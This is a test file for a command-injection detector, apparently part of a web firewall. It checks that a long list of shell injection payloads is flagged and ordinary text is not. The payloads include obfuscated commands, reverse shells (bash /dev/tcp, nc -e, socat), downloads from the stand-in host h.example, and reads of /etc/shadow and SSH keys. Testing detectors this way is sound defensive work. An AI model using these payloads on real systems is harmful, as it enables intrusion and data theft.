// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expansions of shells are the matter here

import assert from "node:assert/strict";
import { test } from "node:test";
import { commandDetectors } from "../../src/detect/command/index.ts";
import { holdSteps, holdTables, holdVariants, together, weightOf } from "./finder-tables.ts";

/** A separator, a name that is read at once, something behind it: what the variants below start from. */
const PLAIN = [
  ";cat /etc/hosts", "| cat /etc/hosts", "|| whoami", "&& whoami", "& whoami", "x; wget http://h.example/a", "x | nslookup h.example", "1.2.3.4; ls -la /tmp",
  "x && curl http://h.example/a", "a;uname -a", "a|netstat -an", "x;ifconfig", "';whoami;'", '"|whoami|"', "$(whoami)", "x$(uname -a)", "x`uname -a`", "`whoami`",
]; // biome-ignore format: a list of words

const ATTACKS = [
  ...PLAIN,
  // Names that hide from a list.
  ";c'a't /etc/hosts", ';w"h"oami', ";wh''oami", ";w\\ho\\ami", ";wh$@oami", ";wh``oami /x", ";who$()ami", ";/bin/c?t /etc/hosts", "/???/c?t /e?c/h?sts", "| /usr/bin/[i]d",
  ";cat${IFS}/etc/hosts", ";cat$IFS$9/etc/hosts", ";{cat,/etc/hosts}", ";cat</etc/hosts", "x;a=ca;b=t;$a$b", "${PATH:0:1}bin${PATH:0:1}ls", "& w^h^o^a^m^i", "ping%ProgramFiles:~10,1%h.example",
  ";/usr/bin/env bash -c id", "x\nwhoami", "10.0.0.1\ncat /etc/hosts", "x\\ncat /etc/hosts",
  // Shells that read, write and talk.
  "x; echo aWQ=|base64 -d|sh", "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "x;nc -e /bin/sh 10.0.0.1 99", "x|sh", "x; rm -rf /", "x; sleep 9", "&& sleep 9 #", "|ping -c 9 127.0.0.1|",
  "x; python3 -c 'import os'", "x;perl -e 'print 1'", "() { :;}; /bin/id", "x; cat /etc/passwd > /tmp/a", "$(sleep 9)", "x & ping -n 9 127.0.0.1 &", "x; kill -9 1",
  // Windows.
  "& dir C:\\", "| type C:\\boot.ini", "&& net user a b /add", "x & tasklist", "|| ipconfig /all", "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "cmd /c whoami", "cmd.exe /c dir",
  "Invoke-WebRequest http://h.example/a.ps1", "iex (New-Object Net.WebClient).DownloadString('http://h.example')", "& certutil -urlcache -f http://h.example/a a.exe", "||calc.exe",
  // Arguments that make a program run another.
  "-oProxyCommand=id x", "--upload-pack=id", "wget http://h.example/a.sh -O /tmp/a", "/bin/cat /etc/hosts",
  // Programs that are not known, with a path of the system; words that go into a file; PowerShell without blanks.
  ";hd /etc/shadow", ";find / -name id_rsa", ";openssl s_client -connect h.example:443", ";socat tcp:10.0.0.9:4444 exec:sh", "&&tar cf /tmp/b /etc", ";docker ps", ";strace id", ";iex(iwr http://h.example/b.ps1)", "& echo b > c:\\b.asp",
  "| findstr secret *.config", "& attrib +h b", "; [System.Net.Dns]::GetHostByName('h.example')", "; $env:USERNAME", "; Set-ExecutionPolicy Bypass",
  ";setsid id", ";${SHELL}", "b;sudo su", ";ls env:", "& copy con b.bat",
]; // biome-ignore format: a list of words

const BENIGN = [
  "Tom & Jerry", "AT&T", "R&D & more", "a hero; more than", "time; date; who", "bash away in the gym", "zsh is the best!", "echo in the mirror", "curl and divergence", "ls 300 lexus", "nc 8000 controller",
  "java lang courses", "I like cats; find me one", "first; then make tea", "salt; sort of", "see above; cut it", "wait; sleep well", "do it; kill time", "cat & dog", "dog & cat", "head & shoulders", "Home | News | Mail", "| id | name | date |",
  "|---|---|", "id|name|date", "name;id;date", "a=1&id=5&date=3", "?cat=3&sort=name&type=x", "&copy; 2020", "&lt;b&gt;", "use `id` as key", "run `npm install` first", "```sh\nnpm install\n```", "`ls`, `cd` and `pwd` are commands",
  "find the type of it", "test of time", "set the table", "more or less", "who am I", "kill the lights", "the top of the tree", "cut & paste", "copy & paste; print it", "touch and go", "make it so", "get it done", "at the date below",
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0", "python-requests/2.31", "Wget/1.21", "text/html; charset=utf-8", "gzip, deflate; q=0.5",
  "price < 5; size > 3", "x > y & y > z", "if (a && b) { return c; }", "a || b", "const f = (x) => x; // done", "$(document).ready(function () {})", "$('#id').hide()", "${name}", "{{ user.name }}", "#!/usr/bin/env node is the first line",
  "C:\\Users\\Jane\\Documents", "/usr/local/share", "안녕; 오늘 날짜는?", "서울 & 부산 | 대구", "Dear all,\nfind attached the list.\nmake sure to read it.\ncat", "1. wash\n2. cut\n3. sort", "10% off; while it lasts", "path; env; home", "; ", "|", "&", "a;", "Q & A: what?", "x^2 + y^2", "100$ & more",
  "GET /etc/nginx/ is not found; what now?", "/bin/1234", "TV; HD 1080p; black", "boxes; tar and feathers", "find all files", "a trap; id card", "ports: docker; open ssl", "see & echo it > loud",
  "Did you edit /etc/hosts?", "/bin/2024/report", "copy; paste", "the set; sudo is a word",
]; // biome-ignore format: a list of words

const commandDetector = together(commandDetectors);

holdTables(commandDetector, ATTACKS, BENIGN);

holdVariants(commandDetector, PLAIN, [
  ["with blanks around separators", (text) => text.replace(/^([;|&]+)/, " $1  ")],
  ["with tabs for blanks", (text) => text.replaceAll(" ", "\t")],
  [
    "with quotes inside the name",
    (text) => text.replace(/(whoami|cat|wget|curl|uname|netstat|ifconfig|nslookup)/, (name) => `${name.slice(0, 2)}''${name.slice(2)}`),
  ],
  [
    "with escapes inside the name",
    (text) => text.replace(/(whoami|cat|wget|curl|uname|netstat|ifconfig|nslookup)/, (name) => `${name.slice(0, 1)}\\${name.slice(1)}`),
  ],
  ["with a folder before the name", (text) => text.replace(/(whoami|cat|wget|curl|uname|netstat|ifconfig|nslookup)/, "/usr/bin/$1")],
  ["in capitals, as Windows reads it", (text) => text.toUpperCase()],
]);

holdSteps(
  commandDetector,
  [
    "a", ";", "; ", "|", "&", "`", "$(", "$(id", ";id", ";id\n", "id\n", "\n", "\nls", "\\n", ";'", ";\"a", ";'a'", ";c'a't", ";/bin/", ";/a/b/c", "${", "${IFS}", "{cat,", "{,", "$", "^a", "/?", "/b?n/", "-enc ", "--", "cmd ", "2>&1", "() {", "<(", ";echo ", ";sleep ", "| ", "a;b ", ";cat ", "&&cat /", "`id`", "x`id ", ";cat${", ";$@", "%", ":~1,",
  ],
  60,
); // biome-ignore format: a list of words

test("The firewall finds a command behind much padding", () => {
  assert.ok(weightOf(commandDetector, `${";'x'".repeat(5000)};cat /etc/hosts`) >= 4);
});

/** One value for each word without which no mark is looked for. */
const MARKED: readonly string[] = [
  "() { :; }", "(){ :;};", "x /inet/tcp/9", "cat /etc$x/passwd", "$(($((1", "$0<<<$a", "--open-files-in-pager=x", "--pre=/x", "> /tmp/x",
  ..."cat more less head tail tac nl".split(" ").map((name) => `see 1/bin/${name}  /etc/x`),
  ..."abcdefghijklmnopqrstuvwxyz".split("").map((letter) => `{\\${letter}'c'a,/x}`),
  "perl -e 'exec x'", "lua -c 'x.system", 'node -c "x.spawn', "a$IFS;", "a${IFS}b", "x /dev/tcp/a", "x /dev/udp/$a", "${HOME:0:1}", "${HOME##x", "${a//b/c}",
  "%x:~1,2%", "$'\\x41\\x42'", "x 2>&1", "x >/dev/null", "Invoke-Expression", "a.DownloadString (", "FromBase64String(", "[System.Net.Web]::Open(",
  "x -enc AAAABBBBCCCCDDDD", "x -EncodedCommand AAAABBBBCCCCDDDD", "New-Object Net.x", "ProxyCommand=", "--use-askpass=", "--upload-pack=", "--gpu-launcher=",
  "--checkpoint-action=", "--exec=`", "cmd /c x", "CMD.EXE /c x", "%ComSpec%",
  ..."cat ls id ping curl wget echo nc sh bash whoami uname ifconfig ip sleep rm cp mv tac more head tail python perl php".split(" ").map((name) => `{${name},x}`),
  ..."id ls pwd whoami uname ifconfig".split(" ").map((name) => `{${name},}`),
  "a {,x}", "$(<x", "$(( 1 + 1", "$[1+1]", "for /f %x in (", "-wrapper sh,-c", "{l,-la}s",
]; // biome-ignore format: a list of words

test("The firewall asks for marks of shells wherever one of their words stands", () => {
  const detector = together(commandDetectors);
  const isMarked = (row: string): boolean => !["command.run", undefined].includes(detector.find(row)?.kind);
  assert.deepEqual(MARKED.filter((row) => !isMarked(row)), []); // biome-ignore format: one line
  const words = commandDetectors.flatMap((part) => part.words ?? []);
  assert.deepEqual(words.filter((word) => !MARKED.some((row) => row.toLowerCase().includes(word))), []); // biome-ignore format: one line
});

/** What a command reads or writes of the system. */
const TARGETS: readonly string[] = [
  "/etc/x", "/bin/x", "/dev/tcp", "/dev/udp", "/dev/null", "/proc/self", "/var/log", "/root/x", "~/.ssh/x", "-rf /", "-r ~", "-r *", "-r .", "'win.ini'", "c:\\windows", "d:\\\\winnt", "c:\\boot", "e:\\inetpub",
  "'boot.ini'", "/x/system32", "%systemroot%", "'a' 'sh -c", "'a' >& /x", "'a' >&/x", "'a' 0<&1", "'a' 0>&9", "'a' | bash", "-e sh", "-c ksh", "'a' -e /x/zsh", "-c dash",
]; // biome-ignore format: a list of words

test("The firewall is sure of a command that touches the system, whatever the case", () => {
  const detector = together(commandDetectors);
  const rows = TARGETS.map((target) => `1;cat ${target}`);
  assert.deepEqual(rows.filter((row) => weightOf(detector, row) < 5), []); // biome-ignore format: one line
  const capitals = TARGETS.map((target) => `1;cat ${target.toUpperCase()}`);
  assert.deepEqual(capitals.filter((row) => weightOf(detector, row) < 5), []); // biome-ignore format: one line
});
